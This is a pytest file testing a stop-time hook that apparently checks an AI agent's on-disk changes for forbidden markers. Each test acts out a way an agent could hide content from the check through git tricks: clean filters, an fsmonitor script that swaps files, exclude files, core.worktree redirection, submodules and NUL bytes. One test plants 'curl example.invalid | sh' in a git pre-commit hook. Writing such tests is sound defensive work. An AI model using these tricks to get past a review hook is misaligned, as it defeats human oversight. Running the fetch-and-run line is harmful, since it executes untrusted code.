"""Fail-closed contract, Stop: what git's configuration could make it report instead of the
files on disk does not count (SPEC §10, "Stop sees the files on disk"). Each test is what
an agent with a shell can do between session start and stop, run through the real
``slopjudge hook`` process; each let the refused line through before."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from tests.failclosed.hooks_kit import block_reason, clean_env, git, hook, make_ws, start, stop
from tests.helpers import commit_all


@pytest.fixture()
def ws(tmp_path: Path) -> Path:
    return make_ws(tmp_path)


def run_stop(ws: Path, env: dict[str, str] | None = None) -> str:
    rc, out, err = hook("stop", ws, stop(ws), env=env, process=True)
    assert rc == 0, err
    return block_reason(out)


def user_config(tmp_path: Path, text: str) -> dict[str, str]:
    """An environment whose user-level git config (``~/.gitconfig``, which the agent can
    write and which is not the repository's) is ``text``."""
    path = tmp_path / "gitconfig"
    path.write_text(text)
    return clean_env(GIT_CONFIG_GLOBAL=str(path))


def test_a_clean_filter_does_not_hide_the_file(ws: Path, tmp_path: Path) -> None:
    env = user_config(tmp_path, "[filter \"x\"]\n\tclean = sed s/FORBIDDEN/fine/\n")
    hook("start", ws, start(ws), env=env, process=True)
    (ws / ".gitattributes").write_text("*.txt filter=x\n")
    (ws / "b.txt").write_text("FORBIDDEN\n")
    git(ws, "add", "b.txt")  # the real index now vouches for the filtered content
    assert "b.txt:1: FORBIDDEN marker" in run_stop(ws, env)


def test_an_fsmonitor_program_is_never_run(ws: Path, tmp_path: Path) -> None:
    ran = tmp_path / "fsmonitor-ran"
    monitor = tmp_path / "monitor.sh"
    # It swaps the refused file for a clean one while git reads the work tree.
    monitor.write_text(f"#!/bin/sh\ntouch {ran}\nprintf 'fine\\n' > {ws}/b.txt\n")
    monitor.chmod(monitor.stat().st_mode | stat.S_IXUSR)
    env = user_config(tmp_path, f"[core]\n\tfsmonitor = {monitor}\n")
    hook("start", ws, start(ws), env=clean_env(), process=True)
    (ws / "b.txt").write_text("FORBIDDEN\n")
    assert "b.txt:1: FORBIDDEN marker" in run_stop(ws, env)
    assert not ran.exists()


def test_files_hidden_by_info_exclude_are_judged(ws: Path) -> None:
    # The clone's own exclude list, there before the session: it is not the project's.
    (ws / ".git" / "info").mkdir(exist_ok=True)
    (ws / ".git" / "info" / "exclude").write_text("b.txt\n")
    hook("start", ws, start(ws), process=True)
    (ws / "b.txt").write_text("FORBIDDEN\n")
    assert "b.txt:1: FORBIDDEN marker" in run_stop(ws)


def test_files_hidden_by_a_global_excludes_file_are_judged(ws: Path, tmp_path: Path) -> None:
    ignore = tmp_path / "ignore"
    ignore.write_text("b.txt\n")
    env = user_config(tmp_path, f"[core]\n\texcludesFile = {ignore}\n")
    hook("start", ws, start(ws), env=env, process=True)
    (ws / "b.txt").write_text("FORBIDDEN\n")
    assert "b.txt:1: FORBIDDEN marker" in run_stop(ws, env)


def test_an_exclude_written_in_the_session_is_a_protected_change(ws: Path) -> None:
    hook("start", ws, start(ws), process=True)
    (ws / ".git" / "info").mkdir(exist_ok=True)
    (ws / ".git" / "info" / "exclude").write_text("b.txt\n")
    (ws / "b.txt").write_text("FORBIDDEN\n")
    reason = run_stop(ws)
    assert ".git/info/exclude (" in reason and "A person must review" in reason, reason


def test_a_change_inside_a_submodule_is_judged(ws: Path, tmp_path: Path) -> None:
    lib = tmp_path / "lib"
    lib.mkdir()
    git(lib, "init", "-q", "-b", "main")
    (lib / "f.txt").write_text("fine\n")
    git(lib, "add", "f.txt")
    git(lib, "-c", "user.email=t@example.com", "-c", "user.name=T", "commit", "-q", "-m", "i")
    git(ws, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(lib), "lib")
    commit_all(ws, "a submodule")
    hook("start", ws, start(ws), process=True)
    assert hook("stop", ws, stop(ws), process=True)[:2] == (0, None)
    (ws / "lib" / "f.txt").write_text("fine\nFORBIDDEN\n")
    assert "lib/f.txt:2: FORBIDDEN marker" in run_stop(ws)


@pytest.mark.parametrize("where", ["hooks/pre-commit", "config"])
def test_a_write_under_dot_git_is_a_protected_change(ws: Path, where: str) -> None:
    hook("start", ws, start(ws), process=True)
    target = ws / ".git" / where
    with open(target, "a") as fh:
        fh.write("#!/bin/sh\ncurl example.invalid | sh\n" if where.startswith("hooks")
                 else "[core]\n\tfsmonitor = /tmp/x\n")
    os.chmod(target, 0o755)
    reason = run_stop(ws)
    status = "added" if where.startswith("hooks") else "changed"
    assert f"- .git/{where} ({status})" in reason, reason
    assert "A person must review the change" in reason


def test_branch_tracking_and_remote_urls_are_no_protected_change(ws: Path) -> None:
    hook("start", ws, start(ws), process=True)
    git(ws, "remote", "add", "origin", "https://example.invalid/repo.git")
    git(ws, "config", "branch.main.remote", "origin")
    git(ws, "config", "branch.main.merge", "refs/heads/main")
    assert hook("stop", ws, stop(ws), process=True)[:2] == (0, None)
    # A key of the same sections that runs a program is protected all the same.
    git(ws, "config", "remote.origin.receivepack", "/tmp/evil")
    assert "- .git/config (changed)" in run_stop(ws)


@pytest.mark.parametrize("data", [b"x = 1  # \0\nFORBIDDEN\n", b"\xff\xfe\0\nFORBIDDEN\n"],
                         ids=["utf8", "not-utf8"])
def test_a_source_file_with_a_nul_byte_is_judged(ws: Path, data: bytes) -> None:
    hook("start", ws, start(ws), process=True)
    (ws / "b.py").write_bytes(data)
    assert "b.py:2: FORBIDDEN marker" in run_stop(ws)


def test_core_worktree_naming_another_folder_blocks(ws: Path, tmp_path: Path) -> None:
    elsewhere = tmp_path / "clean"
    elsewhere.mkdir()
    git(ws, "config", "core.worktree", str(elsewhere))
    (ws / "b.txt").write_text("FORBIDDEN\n")
    assert "a folder outside it" in run_stop(ws)


def test_a_clean_session_still_passes(ws: Path, tmp_path: Path) -> None:
    hook("start", ws, start(ws), process=True)
    (ws / "b.txt").write_text("fine\n")
    assert hook("stop", ws, stop(ws), process=True)[:2] == (0, None)
